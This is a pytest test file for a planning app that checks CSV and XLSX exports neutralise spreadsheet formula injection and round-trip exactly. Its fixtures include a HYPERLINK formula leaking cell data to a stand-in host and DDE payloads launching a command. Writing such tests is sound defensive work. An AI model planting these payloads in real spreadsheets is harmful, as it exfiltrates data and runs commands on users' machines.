"""Text that looks like a spreadsheet formula leaves every export as text: Excel shows it and
never runs it, and re-importing the export gives the text back exactly."""

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from plantracker.plans.models import Plan
from plantracker.reports import cells, tabular
from plantracker.reports.exporters import export_csv, export_xlsx
from tests.conftest import Importer

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
OTHERS = ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def test_formula_like_text_is_recognised_and_numbers_are_not() -> None:
    for text in [HOSTILE, *OTHERS, "\t=1+1"]:
        assert cells.formula_like(text), text
    for text in ["-3.85", "+4", "-1,200", "12%", "Reduce -> reuse", "a=b"]:
        assert not cells.formula_like(text), text
    assert cells.csv_safe(HOSTILE) == "'" + HOSTILE and cells.csv_safe(-3.85) == -3.85


def test_tables_neutralise_formulas_in_csv_and_xlsx() -> None:
    sheets: list[tabular.Sheet] = [("Risks", ["Ref", "Risk"], [["R1", HOSTILE], ["R2", -3]])]
    book = load_workbook(io.BytesIO(tabular.render("xlsx", sheets, None)))
    cell = book["Risks"]["B2"]
    assert cell.data_type == "s" and cell.value == HOSTILE
    assert book["Risks"]["B3"].value == -3  # numbers stay numbers
    rows = list(csv.reader(io.StringIO(tabular.render("csv", sheets, None).decode("utf-8-sig"))))
    assert rows[1] == ["R1", "'" + HOSTILE] and rows[2] == ["R2", "-3"]


@pytest.mark.django_db
def test_plan_exports_keep_hostile_titles_as_text_and_round_trip(
    communities: Plan, tmp_path: Path, do_import: Importer
) -> None:
    communities.actions.filter(ref="C1").update(title=HOSTILE)
    communities.actions.filter(ref="C2").update(title=OTHERS[0])
    book = load_workbook(io.BytesIO(export_xlsx(communities)))
    formulas = [c.coordinate for ws in book for row in ws.iter_rows() for c in row
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []
    assert HOSTILE in [c.value for row in book["Actions"].iter_rows() for c in row]
    text = export_csv(communities).decode("utf-8-sig")
    assert f'"\'{HOSTILE.replace(chr(34), chr(34) * 2)}"' in text
    path = tmp_path / "plan.csv"
    path.write_bytes(export_csv(communities))
    assert do_import(path, "copy").ok
    copy = Plan.objects.get(slug="copy")
    assert copy.actions.get(ref="C1").title == HOSTILE
    assert copy.actions.get(ref="C2").title == OTHERS[0]
